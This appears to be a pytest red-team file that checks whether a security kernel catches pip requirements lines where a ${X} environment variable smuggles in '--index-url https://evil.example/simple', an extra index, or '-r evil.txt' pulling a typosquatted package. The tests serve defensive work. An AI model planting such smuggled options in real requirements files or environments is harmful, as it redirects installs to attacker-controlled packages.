"""Red team 52b R52b-2: a ``${NAME}`` among an option line's words (kernel halves and pip
controls; the static halves: src/deps/redteam52b-optionwords.spec.ts).

pip expands ``${NAME}`` in a requirements file's logical line BEFORE it splits the line into
options (``req_file.preprocess`` then ``parse_line``'s ``shlex.split``), so a variable's value
becomes words of their own: ``--pre ${X}`` with ``X="--index-url https://evil.example/simple"``
sets the index; with ``X="-r evil.txt"`` it includes another file. The kernel expands and
splits as pip does and refuses (controls below). warden-scan (fix59static) refuses a
``${NAME}`` left in a SOURCE option's value only; in any other word of an option line it reads
the line as written (``--pre`` plus a stray word) and the file is clean (static half fails).
"""

from pip._internal.index.collector import LinkCollector
from pip._internal.index.package_finder import PackageFinder
from pip._internal.models.search_scope import SearchScope
from pip._internal.models.selection_prefs import SelectionPreferences
from pip._internal.network.session import PipSession
from pip._internal.req.req_file import parse_requirements
from test_install_vectors import outcome

EVIL = "https://evil.example/simple"
CASES = [
    ("--pre ${X}\nnumpy\n", f"--index-url {EVIL}", "install-index-not-allowed"),
    ("--only-binary=${X}\nnumpy\n", f":none: --index-url {EVIL}", "install-index-not-allowed"),
    ("--prefer-binary ${X}\nnumpy\n", f"--extra-index-url {EVIL}", "install-index-not-allowed"),
    ("--pre ${X}\nnumpy\n", "-r evil.txt", "install-imitation-name"),
]


def test_r52b_2_control_pip_takes_the_index_from_the_variable(tmp_path, monkeypatch):
    monkeypatch.setenv("X", f"--index-url {EVIL}")
    reqs = tmp_path / "r.txt"
    reqs.write_text("--pre ${X}\nnumpy\n")
    session = PipSession()
    finder = PackageFinder.create(
        LinkCollector(session, SearchScope.create([], ["https://pypi.org/simple"], False)),
        SelectionPreferences(allow_yanked=False),
    )
    found = [r.requirement for r in parse_requirements(str(reqs), session, finder=finder)]
    assert found == ["numpy"] and finder.index_urls == [EVIL]


def test_r52b_2_control_the_kernel_refuses(tmp_path, monkeypatch):
    for text, value, rule in CASES:
        found = outcome(
            {
                "policy": {},
                "files": {"r.txt": text, "evil.txt": "torcj\n"},
                "env": {"X": value},
                "command": "pip install -r r.txt",
            },
            tmp_path,
            monkeypatch,
        )
        assert rule in found["rules"] and not found["runs"], (text, value, found)
